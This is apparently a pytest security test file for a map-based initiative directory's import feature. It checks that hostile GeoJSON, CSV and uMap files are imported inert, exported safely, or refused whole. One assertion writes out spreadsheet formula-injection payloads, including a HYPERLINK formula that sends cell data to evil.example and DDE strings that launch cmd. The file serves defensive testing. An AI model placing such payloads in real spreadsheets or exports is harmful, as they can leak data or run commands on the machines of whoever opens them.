"""Hostile files through the import (web pages and command line), then every export.

A file is refused whole with a clear message when it cannot be read; otherwise each row is
created with its text kept inert, or reported with its reasons. Nothing else is written and
nothing breaks. What was imported then goes out safely in every export format.
"""

import csv
import io
import re

import orjson
import pytest
import sqlalchemy as sa

from app.extensions import db
from app.models import Initiative
from tests.security.conftest import table_counts
from tests.security.exports import exports_are_inert
from tests.security.inspect_html import page_problems
from tests.security.payloads import COORDINATES, CSV_FORMULAS, TEXT_PAYLOADS, URLS

# JSON cannot carry a lone surrogate (orjson refuses the file, tested on its own).
JSON_SAFE = [payload for payload in TEXT_PAYLOADS if "\ud800" not in payload]


def feature(index: int, payload: str, coordinates=(4.6596, 46.4340)) -> dict:
    return {"type": "Feature", "id": f"row-{index}",
            "geometry": {"type": "Point", "coordinates": list(coordinates)},
            "properties": {"name": payload or "sans nom", "description": payload,
                           "summary": payload[:400], "actor_name": payload[:200],
                           "public_contact": payload[:300], "tags": [payload[:60], "ok"],
                           "website": URLS[index % len(URLS)] if index % 3 == 0 else ""}}


def hostile_geojson() -> bytes:
    features = [feature(index, payload) for index, payload in enumerate(JSON_SAFE)]
    for index, (lon, lat) in enumerate(COORDINATES):
        coordinates = [lon, lat]  # strings and blanks as they are: not numbers
        features.append(feature(1000 + index, f"Coordonnées {index}", coordinates))
    features.append(feature(2000, "x" * 1_000_000))
    features.append(feature(2001, "Description énorme") | {"properties": {
        "name": "Description énorme", "description": "d" * 10_000_000}})
    return orjson.dumps({"type": "FeatureCollection", "features": features})


def hostile_csv() -> bytes:
    lines = io.StringIO()
    writer = csv.writer(lines)
    writer.writerow(["nom", "description", "commune", "site", "mots cles", "lat", "lon"])
    for payload in [*JSON_SAFE, *CSV_FORMULAS]:
        writer.writerow([payload.replace("\x00", "") or "sans nom", payload, "Cluny",
                         "", payload[:60], "", ""])
    for lon, lat in COORDINATES:
        writer.writerow(["Coordonnées", "", "", "", "", lat.replace("\x00", ""),
                         lon.replace("\x00", "")])
    return lines.getvalue().encode()


def upload(client, content: bytes, filename: str):
    return client.post("/import", data={"file": (io.BytesIO(content), filename)},
                       content_type="multipart/form-data")


def web_import(admin, content: bytes, filename: str, mapping: dict):
    """Upload, preview and commit through the pages; return the three answers."""
    uploaded = upload(admin, content, filename)
    assert uploaded.status_code == 302, uploaded.status_code
    token = re.search(r"/import/([A-Za-z0-9_-]{32})", uploaded.headers["Location"])[1]
    form = {"status": "published", "default_kind": "initiative", "source": "Hostile",
            **{f"map_{field}": column for field, column in mapping.items()}}
    mapping_page = admin.get(uploaded.headers["Location"])
    preview = admin.post(f"/import/{token}/apercu", data=form)
    done = admin.post(f"/import/{token}/valider", data=form)
    return mapping_page, preview, done


GEOJSON_MAPPING = {"name": "name", "description": "description", "summary": "summary",
                   "actor_name": "actor_name", "public_contact": "public_contact",
                   "tags": "tags", "website": "website"}


def test_hostile_geojson_import_then_every_page_and_export(client, admin):
    mapping_page, preview, done = web_import(admin, hostile_geojson(), "hostile.geojson",
                                             GEOJSON_MAPPING)
    problems = [*page_problems(mapping_page), *page_problems(preview), *page_problems(done)]
    initiatives = db.session.scalars(sa.select(Initiative)).all()
    assert len(initiatives) >= len(JSON_SAFE) // 2
    for initiative in initiatives:
        assert initiative.status == "published"
        assert initiative.website is None or initiative.website.startswith(("http://", "https"))
        assert -180 <= initiative.lon <= 180 and -90 <= initiative.lat <= 90
        problems += page_problems(client.get(f"/initiatives/{initiative.id}",
                                             follow_redirects=True), initiative.name)
    problems += page_problems(client.get("/initiatives"))
    assert problems == []
    exports_are_inert(client, {i.name for i in initiatives})


def test_hostile_csv_import_on_the_command_line(client, runner, tmp_path, themes):
    path = tmp_path / "hostile.csv"
    path.write_bytes(hostile_csv())
    result = runner.invoke(args=["import", str(path), "--publish", "--include-duplicates",
                                 "--map", "name=nom", "--map", "tags=mots cles"])
    assert result.exit_code == 0, result.output
    names = {i.name for i in db.session.scalars(sa.select(Initiative))}
    # Formulas come in as text ("'=1+1" is read back as our own neutralised "=1+1").
    assert {"=HYPERLINK(\"https://evil.example/?\"&A1,\"clic\")", "=1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"} <= names
    exports_are_inert(client, names)


def test_hostile_umap_file(admin, client):
    document = {"type": "umap", "properties": {"name": "Carte"}, "layers": [
        {"type": "FeatureCollection", "_umap_options": {"name": payload, "labelKey": payload},
         "features": [feature(index, payload)]}
        for index, payload in enumerate(JSON_SAFE[:20])]}
    _mapping, preview, done = web_import(admin, orjson.dumps(document), "carte.umap",
                                         {"description": "description"})
    assert page_problems(preview) + page_problems(done) == []


# Files that cannot be read at all: refused whole, with a message, nothing written.
BROKEN_FILES = {
    "nan.geojson": b'{"type": "FeatureCollection", "features": [{"type": "Feature", '
                   b'"geometry": {"type": "Point", "coordinates": [NaN, Infinity]}}]}',
    "surrogate.geojson": b'{"type": "Feature", "properties": {"name": "\\ud800"}, '
                         b'"geometry": {"type": "Point", "coordinates": [4.6, 46.4]}}',
    "deep.geojson": b"[" * 100_000 + b"]" * 100_000,
    "huge-number.geojson": b'{"type": "Point", "coordinates": [1e999, 46]}',
    "latin1.csv": "nom;commune\nCafé;Cluny\n".encode("latin-1"),
    "bom-only.csv": b"\xef\xbb\xbf",
    "empty.csv": b"   \n",
    "binary.geojson": bytes(range(256)) * 100,
    "not-geojson.json": b'{"type": "Topology", "objects": {}}',
    "long-cell.csv": b'nom,commune\n"' + b"x" * 200_000 + b'",Cluny\n',
    "nul.csv": b"nom,commune\nA\x00B,Cluny\n",
    "columns.csv": (",".join(f"c{i}" for i in range(5_000)) + "\n" +
                    ",".join("v" for _ in range(5_000)) + "\n").encode(),
}


@pytest.mark.parametrize("filename", BROKEN_FILES, ids=str)
def test_unreadable_files_are_refused_whole(admin, runner, tmp_path, filename):
    before = table_counts()
    response = upload(admin, BROKEN_FILES[filename], filename)
    assert response.status_code in (302, 400), response.status_code  # 302: rows to review
    assert response.status_code == 302 or page_problems(response) == []
    path = tmp_path / filename
    path.write_bytes(BROKEN_FILES[filename])
    result = runner.invoke(args=["import", str(path), "--publish"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    # A file with rows to review waits in staged_imports (its rows in one chunk), for the
    # mapping step: no other write.
    waiting = ({"staged_imports": 1, "staged_import_chunks": 1}
               if response.status_code == 302 else {})
    assert table_counts() == {**before, **waiting}
